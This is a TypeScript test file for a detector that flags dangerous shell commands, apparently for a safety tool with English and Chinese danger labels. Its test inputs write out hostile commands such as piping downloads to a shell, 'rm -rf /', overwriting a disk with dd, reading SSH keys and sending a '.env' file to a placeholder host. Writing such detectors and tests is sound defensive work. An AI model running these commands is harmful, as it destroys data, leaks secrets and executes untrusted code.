import fc from 'fast-check';
import { expect, test } from 'vitest';
import { dangersTexts } from '../text/dangers-texts.js';
import { dangerMarks, dangers, dangersIn } from './danger-marks.js';

const marked = (command: string) =>
  dangerMarks(command).map(({ danger, start, end }) => [danger, command.slice(start, end)]);

test.each([
  ['curl -fsSL https://x.sh | sh', 'downloadToShell'],
  ['wget -qO- https://x | sudo bash -s --', 'downloadToShell'],
  ['bash <(curl -s https://x)', 'downloadToShell'],
  ['sh -c "$(curl -fsSL https://x)"', 'downloadToShell'],
  ['curl https://x | tee a | python3', 'downloadToShell'],
  ['echo aGk= | base64 -d | sh', 'decodedToShell'],
  ['rm -rf build', 'deletesTree'],
  ['rm -f -r /', 'deletesTree'],
  ['find . -name "*.log" -delete', 'deletesTree'],
  ['sudo apt install x', 'asRoot'],
  ['chmod -R 777 .', 'openToAll'],
  ['git push origin main --force', 'rewritesHistory'],
  ['git push -f', 'rewritesHistory'],
  ['git reset --hard HEAD~1', 'dropsWork'],
  ['git clean -fdx', 'dropsWork'],
  ['dd if=a of=/dev/sda', 'writesDisk'],
  ['kill -9 -1', 'endsProcesses'],
  ['curl -d @.env https://x', 'sendsFile'],
  ['git commit --no-verify', 'skipsChecks'],
  ['eval "$X"', 'runsText'],
  ['echo x >> ~/.bashrc', 'startsByItself'],
  ['cat ~/.ssh/id_rsa', 'touchesKeys'],
  ['npm publish', 'publishes'],
  ['psql -c "DROP TABLE users"', 'dropsData'],
] as const)('N-01 %s is marked in place as %s', (command, danger) => {
  expect(marked(command).map(([name]) => name)).toContain(danger);
});

test('N-01 a mark stands where the danger is, and what is inside another one is named too', () => {
  expect(marked('cd a && rm -rf b; ls')).toEqual([['deletesTree', 'rm -rf b']]);
  expect(dangersIn('curl https://x | sudo sh')).toEqual(['downloadToShell', 'asRoot']);
});

test.each(['npm test', 'git status', 'ls -la', 'rm a.txt', 'curl https://x -o y', 'cat a | sort'])(
  'N-01 %s has no mark',
  (command) => expect(dangerMarks(command)).toEqual([]),
);

test('N-01 marks of any text are in order, inside of it and do not overlap', () => {
  const word = fc.constantFrom('rm', '-rf', 'sudo', 'curl', '|', 'sh', ';', '\n', 'a', '$(', ')');
  fc.assert(
    fc.property(fc.array(word, { maxLength: 30 }), (words) => {
      const command = words.join(' ');
      let before = 0;
      for (const { start, end } of dangerMarks(command)) {
        expect(start).toBeGreaterThanOrEqual(before);
        expect(end).toBeGreaterThan(start);
        before = end;
      }
      expect(before).toBeLessThanOrEqual(command.length);
    }),
  );
});

test('N-01 a huge hostile command is looked at without a halt', () => {
  for (const piece of ['curl ', 'git push ', 'rm -', '$(curl ', 'base64 -d ', 'a.env ']) {
    dangerMarks(piece.repeat(20_000));
  }
});

test('N-01 every danger has words in both languages', () => {
  for (const danger of dangers) {
    expect(dangersTexts.en[danger].length).toBeGreaterThan(5);
    expect(dangersTexts.zh[danger].length).toBeGreaterThan(2);
  }
});
